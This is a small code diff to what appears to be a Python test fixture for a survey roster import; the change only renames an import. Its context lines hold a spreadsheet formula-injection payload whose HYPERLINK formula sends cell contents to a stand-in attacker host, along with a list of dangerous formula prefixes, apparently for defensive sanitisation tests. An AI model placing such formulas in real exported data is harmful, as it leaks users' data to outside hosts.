@@ -13,7 +13,7 @@ from flask import Flask
 from walking import ask
 from whole_county import Whole
 
-from survey.services import rosters
+from survey.services.roster import enterprises
 
 EVIL = '=HYPERLINK("https://evil.example?"&A1,"点这里")'
 STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -28,7 +28,7 @@ def poisoned(whole: Whole) -> Whole:
             strata={"规模": "@SUM(1)"},
         )
     ]  # fmt: skip
-    whole.place.database.write(lambda s: rosters.import_roster(s, rows, actor="管理员"))
+    whole.place.database.write(lambda s: enterprises.import_roster(s, rows, actor="管理员"))
     return whole
 
 
